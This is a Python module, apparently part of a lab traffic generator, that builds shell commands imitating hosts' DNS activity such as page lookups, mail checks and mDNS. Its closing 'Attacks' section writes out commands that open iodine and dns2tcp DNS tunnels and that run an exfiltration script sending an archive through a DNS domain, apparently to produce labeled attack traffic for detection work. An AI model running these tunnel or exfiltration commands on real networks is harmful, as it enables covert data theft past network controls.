"""Actions of hosts on the days of DNS: a shell command with a real program for each kind of action.

All use `dig`, because the stub resolver of the C library does not query AAAA on a host without IPv6.
"""

import sys
import uuid
from pathlib import Path

from . import domains
from .hosts import CLIENTS, DNS2TCP_DOMAIN, DOMAIN, EXFILTRATION_DOMAIN, IODINE_DOMAIN, SERVERS
from .network import WORK

PROGRAMS = Path(__file__).resolve().parent.parent / "programs"
DIG = "dig +short +tries=1 +time=2"


def site(rng):
    """One of the sites; the first ones are chosen more often."""
    (chosen,) = rng.choices(domains.SITES, [1 / (n + 3) for n in range(len(domains.SITES))])
    return chosen


def resolve(*names):
    """Queries both addresses of each name."""
    return DIG + "".join(f" {name} A {name} AAAA" for name in names)


def page(rng, _):
    """Queries of a page: the site, embedded hosts, and sometimes a stored object or a measurement."""
    visited = site(rng)
    names = [f"www.{visited.domain}", *rng.sample(visited.parts, min(len(visited.parts), rng.choice((1, 2, 3))))]
    command = resolve(*names)
    if rng.random() < 0.35:
        command = f"{DIG} -t HTTPS www.{visited.domain}; {command}"
    if rng.random() < 0.15:
        command += "; " + storage(rng, None)
    if rng.random() < 0.2:
        command += "; " + ingest(rng, None)
    return command


def storage(rng, _):
    return resolve(f"{uuid.UUID(int=rng.getrandbits(128), version=4)}.{domains.STORAGE}")


def ingest(rng, _):
    region = rng.choice(domains.REGIONS)
    return f"{DIG} o{rng.randrange(10**5, 10**6)}-{domains.token(rng, 10)}.{region}.{domains.INGEST}"


def intranet(rng, _):
    return resolve(*(f"{name}.{DOMAIN}" for name in rng.sample(("web", "files", "shell", "cache", "printer"), 2)))


def mistyped(rng, _):
    """A mistyped name: a missing letter, two letters exchanged, or a host that never existed."""
    name = site(rng).domain
    at = rng.randrange(1, len(name.split(".")[0]) - 1)
    return resolve(rng.choice((
        name[:at] + name[at + 1 :], name[: at - 1] + name[at] + name[at - 1] + name[at + 1 :], f"wwww.{name}",
        f"wiki.{DOMAIN}", f"wpad.{DOMAIN}", "fileserver")))


def reverse(rng, _):
    address = rng.choice((*SERVERS.values(), *CLIENTS.values(), f"203.0.113.{rng.randrange(100, 250)}"))
    return f"{DIG} -x {address}"


def updates(rng, _):
    return resolve(*rng.sample(domains.UPDATES, rng.choice((1, 2))))


def time(rng, _):
    return resolve(*rng.sample(domains.TIME, 2))


def services(rng, _):
    name = rng.choice((f"_ldap._tcp.dc._msdcs.{DOMAIN}", f"_kerberos._tcp.{DOMAIN}", f"_ldap._tcp.{DOMAIN}",
                       f"_sip._tls.{site(rng).domain}"))
    return f"{DIG} -t SRV {name}"


def cache_expiry():
    """Clears the resolver's cache after some seconds of real time."""
    return f"sleep 2; kill -HUP $(cat {WORK}/infra/dnsmasq.pid)"


def browser_start(rng, _):
    """Three random names, with which a browser detects a resolver that answers for nonexistent names."""
    return resolve(*(domains.token(rng, rng.randrange(7, 16), "abcdefghijklmnopqrstuvwxyz") for _ in range(3)))


def mail(rng, _):
    """Queries of a mail server that checks a sender: reverse lookup, block list, SPF, DKIM and DMARC."""
    sender, last = site(rng).domain, rng.randrange(100, 250)
    asked = [f"-x 203.0.113.{last}", f"{last}.113.0.203.{domains.BLOCK_LIST}", f"-t TXT {sender}", f"-t TXT spf.{sender}",
             f"-t TXT s1._domainkey.{sender}", f"-t TXT _dmarc.{sender}"]
    if rng.random() < 0.4:
        asked = [f"-t MX {sender}", f"mail.{sender}"]
    return "; ".join(f"{DIG} {question}" for question in asked)


def login_log(rng, _):
    return f"{DIG} -x {rng.choice(list(CLIENTS.values()))}"


# Multicast DNS.


def mdns_scan(_, __):
    """Queries all services; avahi on two servers answers."""
    return "timeout 2.5 mdns-scan"


def mdns_wake(_, host):
    """A desk that wakes up: its avahi claims and announces the name, and withdraws it when it stops."""
    return avahi(host, "timeout 4")


def avahi(host, before=""):
    """Starts an avahi with a separate directory in /run for each host."""
    inside = (f"mount -t tmpfs tmpfs /run/avahi-daemon && exec {before} avahi-daemon --no-drop-root --no-chroot --no-rlimits "
              f"-f {WORK}/{host}/avahi.conf")
    return f"unshare --mount sh -c '{inside}'"


# Attacks.


def iodine(_):
    """A tunnel for some minutes: pings and a few pages through it."""
    far = "http://172.31.9.1/p"
    pages = "; ".join(f"curl -s -m 20 -o /dev/null {far}/{n}.html; sleep 12" for n in range(7))
    return (f"timeout -s INT 170 iodine -f -r -P rain-on-tin -d dns0 {SERVERS['infra']} {IODINE_DOMAIN} & "
            f"sleep 35; ping -q -c 4 -i 2 172.31.9.1; {pages}; wait")


def dns2tcp(_):
    """Fetches pages of a web server behind the tunnel for some minutes."""
    pages = "; ".join(f"curl -s -m 20 -o /dev/null http://127.0.0.1:8053/p/{n}.html; sleep 14" for n in range(9))
    return (f"timeout -s INT 170 dns2tcpc -z {DNS2TCP_DOMAIN} -k rain-on-tin -r web -l 8053 {SERVERS['infra']} & "
            f"sleep 3; {pages}; wait")


def exfiltrate(n):
    return f"{sys.executable} {PROGRAMS}/exfiltrate.py {WORK}/archive0.bin {n} {EXFILTRATION_DOMAIN}"


def generated_domain(n):
    return f"{sys.executable} {PROGRAMS}/generated-domains.py 2025-03-07 {n}"
